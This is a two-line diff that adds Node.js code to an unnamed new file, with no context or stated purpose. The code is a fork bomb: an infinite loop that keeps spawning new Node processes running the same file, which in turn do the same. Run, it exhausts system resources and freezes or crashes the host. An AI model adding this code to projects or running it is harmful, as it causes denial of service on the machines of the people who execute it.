@@ -1,0 +1,2 @@
+const { spawn } = require("child_process");
+for (;;) spawn(process.execPath, [__filename]);
